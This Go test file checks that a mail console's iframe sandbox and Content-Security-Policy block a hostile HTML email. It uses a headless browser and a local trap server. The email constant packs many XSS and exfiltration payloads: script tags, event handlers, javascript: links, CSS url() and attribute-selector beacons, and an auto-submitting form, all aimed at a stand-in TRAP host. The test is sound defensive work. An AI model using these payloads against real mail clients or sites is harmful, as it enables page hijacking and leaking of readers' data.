package api

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"strings"
	"sync/atomic"
	"testing"
)

// hostile is a mail that tries everything at once; TRAP is the attacker's server.
const hostile = `<script>parent.document.title='owned';fetch('TRAP/script')</script><img src=x onerror="parent.document.title='owned'"><img src="TRAP/img">
<svg onload="parent.document.title='owned'"><foreignObject><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe></foreignObject></svg>
<style>@import url(TRAP/import);@font-face{font-family:f;src:url(TRAP/font)}p{font-family:f;background:url(TRAP/bg)}input[value^="a"]{background:url(TRAP/attr)}</style>
<p style="position:fixed;inset:0;background-image:url(TRAP/inline)">x</p><input value="abc"><link rel=stylesheet href="TRAP/css"><link rel=prefetch href="TRAP/prefetch">
<meta http-equiv=refresh content="0;url=TRAP/refresh"><base href="TRAP/"><object data="TRAP/object"></object><embed src="TRAP/embed"><iframe src="TRAP/frame"></iframe>
<video src="TRAP/video" poster="TRAP/poster" autoplay></video><form action="TRAP/form" method=post><button>go</button></form><script>document.forms[0]&&document.forms[0].submit()</script>
<table background="TRAP/table"><tr><td>Readable text</td></tr></table><a href="javascript:parent.document.title='owned'" target=_top>link</a>`

// TestHostileMailInABrowser shows the mail in a real browser, as the console does
// and as it must not: the plain frame has to be hit, or the test proves nothing.
func TestHostileMailInABrowser(t *testing.T) {
	if testing.Short() {
		t.Skip("it starts a browser")
	}
	browser, err := exec.LookPath("chromium-headless-shell")
	if err != nil {
		if os.Getenv("CI") != "" {
			t.Fatal("CI must have Chromium's headless shell")
		}
		t.Skip("no chromium-headless-shell: install it")
	}
	var hits atomic.Int64
	trap := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		hits.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	defer trap.Close()
	mail := strings.ReplaceAll(hostile, "TRAP", trap.URL)
	const sandbox = `sandbox="allow-same-origin allow-popups allow-popups-to-escape-sandbox" referrerpolicy="no-referrer"`
	for name, c := range map[string]struct {
		frame   string
		policy  bool
		body    []byte
		harmful bool
	}{
		"a plain frame, the control":              {"", false, []byte(mail), true},
		"the policy and the frame, not sanitised": {sandbox, true, []byte(mail), false},
		"as the console shows it":                 {sandbox, true, mailPage(mail, pictures{}), false},
		"opened as a page of its own":             {"-", true, mailPage(mail, pictures{}), false},
	} {
		hits.Store(0)
		mux := http.NewServeMux()
		mux.HandleFunc("/mail", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			if c.policy {
				w.Header().Set("Content-Security-Policy", htmlPolicy)
				w.Header().Set("Referrer-Policy", "no-referrer")
				w.Header().Set("X-Content-Type-Options", "nosniff")
			}
			_, _ = w.Write(c.body)
		})
		mux.HandleFunc("/", func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, `<!doctype html><title>console</title><iframe src="/mail" %s onload="document.body.dataset.height=this.contentDocument?this.contentDocument.body.scrollHeight:-1"></iframe>`, c.frame)
		})
		console := httptest.NewServer(mux)
		page := console.URL
		if c.frame == "-" {
			page += "/mail"
		}
		cmd := exec.Command(browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(), "--virtual-time-budget=4000", "--dump-dom", page)
		dom, err := cmd.Output()
		console.Close()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		owned := strings.Contains(string(dom), "<title>owned")
		t.Logf("%s: %d requests outside, the console was changed: %v", name, hits.Load(), owned)
		if c.harmful != (hits.Load() > 0) || c.harmful != owned {
			t.Errorf("%s: %d requests outside, the console was changed: %v\n%.600s", name, hits.Load(), owned, dom)
		}
		if c.frame == sandbox && (!strings.Contains(string(dom), "data-height=") || strings.Contains(string(dom), `data-height="-1"`)) {
			t.Errorf("%s: its height can't be read: %.600s", name, dom)
		}
	}
}
